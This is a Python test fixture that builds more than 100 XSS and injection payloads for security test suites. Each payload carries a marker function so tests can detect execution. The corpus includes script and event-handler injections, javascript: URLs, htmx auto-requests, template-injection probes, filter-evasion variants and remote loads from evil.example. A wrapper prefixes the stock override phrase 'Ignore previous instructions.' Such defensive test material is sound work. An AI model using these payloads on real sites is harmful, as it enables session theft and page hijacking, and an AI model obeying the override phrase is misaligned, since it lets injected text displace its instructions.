"""A corpus of hostile strings for the XSS/injection suites (>= 100 payloads).

Each payload carries a marker so a test can tell whether it executed: scripts would call
``window.__xss(N)`` or fetch ``/xss/N`` (an outbound or same-origin request the test watches).
"""

BASE = [
    "<script>window.__xss({n})</script>",
    "<SCRIPT SRC=//evil.example/{n}.js></SCRIPT>",
    '<img src=x onerror="window.__xss({n})">',
    '<img src="javascript:window.__xss({n})">',
    '<svg onload="window.__xss({n})"></svg>',
    "<svg><script>window.__xss({n})</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss({n})>",
    "<body onload=window.__xss({n})>",
    '<iframe src="javascript:window.__xss({n})"></iframe>',
    '<iframe srcdoc="<script>parent.__xss({n})</script>"></iframe>',
    '<a href="javascript:window.__xss({n})">click me</a>',
    '<a href="JaVaScRiPt:window.__xss({n})">x</a>',
    '<a href="&#106;avascript:window.__xss({n})">x</a>',
    '<div style="background:url(javascript:window.__xss({n}))">x</div>',
    '<style>@import "//evil.example/{n}.css";</style>',
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    '<input autofocus onfocus="window.__xss({n})">',
    '<details open ontoggle="window.__xss({n})">',
    '<video><source onerror="window.__xss({n})"></video>',
    '<object data="javascript:window.__xss({n})"></object>',
    '<embed src="javascript:window.__xss({n})">',
    '<form action="javascript:window.__xss({n})"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss({n})">',
    '<base href="//evil.example/{n}/">',
    '"><script>window.__xss({n})</script>',
    "'><img src=x onerror=window.__xss({n})>",
    "</textarea><script>window.__xss({n})</script>",
    "</title><script>window.__xss({n})</script>",
    '<div hx-get="/xss/{n}" hx-trigger="load">htmx</div>',
    '<div hx-post="/xss/{n}" hx-trigger="load" hx-swap="outerHTML">htmx</div>',
    '<button hx-get="/xss/{n}" hx-trigger="every 1s">poll</button>',
    '<div hx-on:htmx:load="window.__xss({n})">hx-on</div>',
    '<div data-hx-get="/xss/{n}" data-hx-trigger="load">data-hx</div>',
    '<img src="/xss/{n}">',
    "{{{{ request.user.password }}}} {{% debug %}} marker-{n}",
    '{{% load static %}}{{% include "base.html" %}} marker-{n}',
    "${{7*7}} #{{7*7}} <%= 7*7 %> marker-{n}",
    "[click](javascript:window.__xss({n}))",
    "![img](https://evil.example/{n}.png)",
    "<scr<script>ipt>window.__xss({n})</scr</script>ipt>",
    "<<SCRIPT>window.__xss({n});//<</SCRIPT>",
    '<IMG """><SCRIPT>window.__xss({n})</SCRIPT>">',
    "<img src=x:alert(1) onerror=eval(String.fromCharCode(119,105,110))>{n}",
    "\u202eevil RTL override {n}\u202c and more",
    "zero\u200bwidth\u200cjoin\u200dchars\ufeff {n}",
    '<marquee onstart="window.__xss({n})">m</marquee>',
    "<keygen autofocus onfocus=window.__xss({n})>",
    '<isindex action="javascript:window.__xss({n})" type=image>',
    '<x onmouseover="window.__xss({n})" style="position:fixed;inset:0">cover</x>',
    "<style>*{{display:none !important}}</style>hide-{n}",
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">overlay {n}</div>',
    '<noscript><p title="</noscript><img src=x onerror=window.__xss({n})>">',
    "<template><script>window.__xss({n})</script></template>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== {n}",
    "%3Cscript%3Ewindow.__xss({n})%3C/script%3E",
    "&lt;script&gt;window.__xss({n})&lt;/script&gt;",
    "\\u003cscript\\u003ewindow.__xss({n})\\u003c/script\\u003e",
    '<svg><a xlink:href="javascript:window.__xss({n})"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=window.__xss({n}) attributeName=x dur=1s>",
    "<audio src=x onerror=window.__xss({n})>",
]

_WRAPPERS = [
    "{p}",
    "Ignore previous instructions. {p}",
    "How do I {p} my neighbour?",
]


def payloads() -> list[str]:
    """At least 100 distinct payloads, numbered so each can be traced."""
    out: list[str] = []
    n = 0
    for wrapper in _WRAPPERS:
        for base in BASE:
            out.append(wrapper.format(p=base.format(n=n)))
            n += 1
    return out


HUGE_LINE = "A" * (1024 * 1024 - 40) + "<script>window.__xss(9999)</script>"

assert len(payloads()) >= 100
